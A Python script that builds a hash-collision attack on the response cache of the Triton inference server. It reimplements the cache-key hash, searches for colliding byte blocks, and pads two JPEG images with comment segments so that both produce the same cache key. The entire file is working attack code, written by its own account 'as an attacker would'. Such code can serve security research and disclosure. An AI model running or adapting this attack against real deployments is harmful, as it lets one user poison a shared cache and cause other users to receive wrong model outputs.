"""Makes two images with one key in Triton's response cache, as an attacker would.

The key (Triton core, src/cache_manager.cc) is Boost 1.80's hash_combine, 64 bits, over model, version and each byte of
the inputs. One step is h ← (h ^ K[byte]) · M + C mod 2⁶⁴, where every bit depends on lower bits only. So the low halves
are made equal first, then many pairs of blocks that keep them equal are chained, and among the 2¹⁷ × 2¹⁷ choices some
make the high halves equal as well.
"""

import numpy as np
from numpy.typing import NDArray

M, C = 0xC6A4A7935BD1E995, 0xE6546B64
MASK = 2**64 - 1
BLOCK, CHAIN, TRIALS = 6, 17, 2**17


def _mixed(value: int) -> int:
    value = value * M & MASK
    value ^= value >> 47
    return value * M & MASK


K = np.array([_mixed(byte) for byte in range(256)], np.uint64)


def combine(state: int, data: bytes) -> int:
    """The state after some bytes."""
    for byte in data:
        state = ((state ^ int(K[byte])) * M + C) & MASK
    return state


def _combine_each(states: NDArray[np.uint64], blocks: NDArray[np.uint8]) -> NDArray[np.uint64]:
    for column in blocks.T:
        states = (states ^ K[column]) * np.uint64(M) + np.uint64(C)
    return states


def start(model: str, version: int, first_input: str) -> int:
    """The state before the first input's bytes."""

    def add(state: int, value: int) -> int:
        return ((state ^ _mixed(value)) * M + C) & MASK

    return add(add(add(0, combine(0, model.encode())), version), combine(0, first_input.encode()))


def collide(before_a: int, before_b: int, seed: int = 0) -> tuple[bytes, bytes]:
    """Two texts of equal length after which the states are equal."""
    random = np.random.default_rng(seed)

    def tries(state: int) -> tuple[NDArray[np.uint8], NDArray[np.uint64]]:
        blocks = random.integers(0, 256, (TRIALS, BLOCK), np.uint8)
        return blocks, _combine_each(np.full(TRIALS, state, np.uint64), blocks)

    def low(states: NDArray[np.uint64]) -> NDArray[np.uint64]:
        return states & np.uint64(2**32 - 1)

    while True:
        (blocks_a, after_a), (blocks_b, after_b) = tries(before_a), tries(before_b)
        common, index_a, index_b = np.intersect1d(low(after_a), low(after_b), return_indices=True)
        if not len(common):
            continue
        texts_a, texts_b = [blocks_a[index_a[0]].tobytes()], [blocks_b[index_b[0]].tobytes()]
        states_a, states_b = after_a[index_a[:1]], after_b[index_b[:1]]
        pairs: list[NDArray[np.uint8]] = []
        while len(pairs) < CHAIN:
            blocks, after = tries(int(low(states_a)[0]))
            order = np.argsort(low(after), kind="stable")
            same = np.flatnonzero(np.diff(low(after)[order]) == 0)
            if len(same):
                pair = blocks[order[same[0] : same[0] + 2]]
                pairs.append(pair)
                # Each choice so far, followed by either block: all low halves stay equal.
                states_a = np.concatenate([_combine_each(states_a, np.tile(b, (len(states_a), 1))) for b in pair])
                states_b = np.concatenate([_combine_each(states_b, np.tile(b, (len(states_b), 1))) for b in pair])
        common, index_a, index_b = np.intersect1d(states_a, states_b, return_indices=True)
        if len(common):
            for texts, choice in ((texts_a, int(index_a[0])), (texts_b, int(index_b[0]))):
                texts += [pair[(choice >> step) & 1].tobytes() for step, pair in enumerate(pairs)]
            return b"".join(texts_a), b"".join(texts_b)


def colliding_jpegs(jpeg_a: bytes, jpeg_b: bytes, before: int) -> tuple[bytes, bytes]:
    """The two images with comments that give them the same length and the same state at their end."""
    length = max(len(jpeg_a), len(jpeg_b))
    opened = []
    for jpeg in (jpeg_a, jpeg_b):
        assert jpeg.endswith(b"\xff\xd9")
        missing = length - len(jpeg)
        # Comments fill up the shorter one: each has a marker, its length, and zeros.
        filler = b""
        missing += 8  # so that both have at least one
        while missing:
            size = missing if missing <= 60_000 else 50_000
            filler += b"\xff\xfe" + (size - 2).to_bytes(2, "big") + bytes(size - 4)
            missing -= size
        free = BLOCK * (1 + CHAIN)
        opened.append(jpeg[:2] + filler + jpeg[2:-2] + b"\xff\xfe" + (free + 2).to_bytes(2, "big"))
    free_a, free_b = collide(*(combine(before, text) for text in opened))
    return opened[0] + free_a + b"\xff\xd9", opened[1] + free_b + b"\xff\xd9"
